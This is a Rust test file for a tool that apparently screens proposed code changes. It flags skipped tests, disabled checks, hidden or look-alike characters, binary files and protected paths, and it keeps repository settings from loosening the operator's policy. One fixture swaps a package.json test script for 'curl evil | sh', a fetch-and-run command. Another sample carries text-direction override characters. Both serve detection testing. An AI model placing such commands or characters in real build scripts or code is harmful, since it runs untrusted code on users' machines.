        let judgement = Draft::default().file(path, None, Some("a\n")).judge(&policy, &[]);
        assert!(judgement.held_back.is_empty(), "{path}");
        assert!(judgement.wants_draft(), "{path}");
        assert_eq!(judgement.flags[0].path.as_deref(), Some(path));
    }
}

#[test]
fn flags_say_what_a_reviewer_could_miss() {
    let old = "#[test]\nfn a() {}\n\n#[test]\nfn b() {}\n";
    let new = "#[test]\n#[ignore]\nfn a() {}\n";
    let script = |command: &str| format!(r#"{{"scripts": {{"test": "{command}"}}}}"#);
    let draft = Draft::default()
        .file("tests/a.rs", Some(old), Some(new))
        .file("tests/gone.rs", Some(old), None)
        .file("src/a.py", None, Some("import os  # noqa\nprocess.exit(1)\n"))
        .file("src/b.js", None, Some("process.exit(1)\nit.only('x')\n// eslint-disable\n"))
        .file("src/bidi.c", None, Some("if (admin\u{202e} \u{2066}) {\n"))
        .file("src/zero.rs", None, Some("let a\u{200b}b = 1;\nlet smile = \"👨\u{200d}👩\";\n"))
        .file("src/look.rs", None, Some("fn is_\u{430}dmin() {}\n// Привет world, Δt\n"))
        .file("package.json", Some(&script("jest")), Some(&script("curl evil | sh")));
    check(
        &draft,
        &expect![[r#"
            flag path.note "package.json": names scripts and dependencies
            flag path.protected.scripts "package.json": changes commands that run on install, build or test
            flag tests.skipped "tests/a.rs": skips a test: line 2: #[ignore
            flag tests.removed "tests/a.rs": 1 test(s) removed or renamed, 0 added
            flag tests.deleted "tests/gone.rs": a test file is deleted
            flag checks.disabled "src/a.py": switches a check off: line 1: # noqa
            flag tests.skipped "src/b.js": skips a test: line 2: it.only(
            flag checks.disabled "src/b.js": switches a check off: line 3: eslint-disable
            flag content.bidi "src/bidi.c": text direction is overridden: line 1: U+202E U+2066
            flag content.invisible "src/zero.rs": has characters that cannot be seen: line 1: U+200B
            flag content.homoglyph "src/look.rs": mixes look-alike letters of two scripts: line 1: U+0430
            draft: true
        "#]],
    );
}

#[test]
fn a_repository_can_only_tighten() {
    let operator = "policy: { allow-workflows: true, max-files: 50 }";
    let mut config = merge::resolve(Some(("operator.yml", operator)), &Common::default()).unwrap();
    let before = config.policy.clone();
    let looser = "policy: { max-files: 5000, max-bytes: 15000000000g, allow-workflows: true }";
    merge::tighten(&mut config, file::parse(file::REPOSITORY_FILE, looser).unwrap());
    assert_eq!(config.policy, before);
    assert_eq!(
        config.notes,
        ["policy.max-files", "policy.max-bytes"].map(|key| format!(
            "`{key}` in `.github/patchwright.yml` was refused: it is looser than the operator's limit"
        ))
    );
    let stricter = "policy: { max-files: 3, blocked-paths: [infra/], protected-paths: [\"*.sql\"], \
                    allow-workflows: false }";
    merge::tighten(&mut config, file::parse(file::REPOSITORY_FILE, stricter).unwrap());
    let draft = Draft::default()
        .file(".github/workflows/a.yml", None, Some("a\n"))
        .file("infra/main.tf", None, Some("b\n"))
        .file("db/1.sql", None, Some("c\n"));
    expect![[r#"
        flag path.protected.listed "db/1.sql": listed as `*.sql`
        held back path.workflow ".github/workflows/a.yml"
        held back path.blocked "infra/main.tf"
        draft: true
    "#]]
    .assert_eq(&shown(&draft.judge(&config.policy, &[])));
}

#[test]
fn an_unreadable_blob_and_a_bad_glob_count_against_the_change() {
    let mut draft = Draft::default().file("src/a.rs", None, Some("a\n"));
    draft.blobs.clear();
    let policy = Policy { blocked_paths: vec!["a[".to_owned()], ..Policy::default() };
    expect![[r#"
        violation secret.unsearched "src/a.rs": cannot be read to look for our own secrets in it
        held back path.blocked "src/a.rs"
        draft: true
    "#]]
    .assert_eq(&shown(&draft.judge(&policy, &[])));
}

#[test]
fn the_files_own_text_tells_binary_from_bidi() {
    let draft = Draft::default().file("img.bin", None, Some("\0\u{202e}"));
    expect![[r#"
        flag content.binary "img.bin": binary file added (4 bytes)
        draft: false
    "#]]
    .assert_eq(&shown(&draft.judge(&Policy::default(), &[])));
}

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config {
        failure_persistence: None,
        ..proptest::test_runner::Config::default()
    })]
    #[test]
    fn redacting_any_text_leaves_nothing_to_find(
        pieces in proptest::collection::vec((0..40usize, 0..40usize, 0..7usize), 0..12)
    ) {
        let between = ["", " ", "\n", "é", "%", "0x", "世"];
        let parts = pieces
            .iter()
            .flat_map(|(from, to, gap)| [&CANARY[*from.min(to)..*from.max(to)], between[*gap]]);
        let text: String = parts.collect();
        let redactor = redactor();
        proptest::prop_assert_eq!(redactor.scan(redactor.redact(&text).as_bytes()), []);
    }
}

#[test]
fn the_page_about_policy_names_every_rule() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let page = fs_err::read_to_string(root.join("docs/policy.md")).unwrap();
    let keys = secrets::KEY_FORMATS.iter().map(|format| format!("`secret.{}`", format.id));
    let globs = policy::paths::PROTECTED
        .iter()
        .flat_map(|row| [format!("`{}`", row.glob), format!("| `{}` | {} |", row.rule, row.why)]);
    let held = policy::paths::WORKFLOWS.iter().map(|glob| format!("`{glob}`"));
    let missing: Vec<String> =
        keys.chain(globs).chain(held).filter(|words| !page.contains(words.as_str())).collect();
    assert_eq!(missing, Vec::<String>::new());
}

#[test]
fn files_that_were_too_many_to_be_looked_at_count() {
    let mut draft = Draft::default().file("a", None, Some("a\n"));
    draft.beyond = OverLimit { files: 12_000, bytes: 24_000 };
    let found = draft.judge(&Policy::default(), &[]).violations;
    assert_eq!(found[0].message, "the change has 12001 files; the limit is 100");
    assert_eq!(found.len(), 1, "it is said once: {found:?}");
    let generous = Policy { max_files: 50_000, ..Policy::default() };
    assert_eq!(draft.violated(&generous), ["size.files -"], "they are not in the change");
}

#[test]
fn a_new_binary_file_is_flagged_and_a_changed_one_is_not() {
    let flagged = |draft: Draft| {
        let judged = draft.judge(&Policy::default(), &[]);
        let flags = judged.flags.iter().filter(|flag| flag.rule == "content.binary");
        (flags.map(|flag| flag.message.clone()).collect::<Vec<_>>(), judged.wants_draft())
    };
    let core = "\u{7f}ELF\0\0";
    let added = flagged(Draft::default().file("core", None, Some(core)));
    assert_eq!(added, (vec!["binary file added (6 bytes)".to_owned()], false));
    let turned = flagged(Draft::default().file("core", Some("text\n"), Some(core)));
    assert_eq!(turned.0, ["is a binary file now (6 bytes)"]);
    for draft in [
        Draft::default().file("core", Some("\0\0"), Some(core)),
        Draft::default().file("core", Some(core), None),
        Draft::default().file("text", None, Some("text\n")),
    ] {
        assert_eq!(flagged(draft).0, Vec::<String>::new());
    }
}
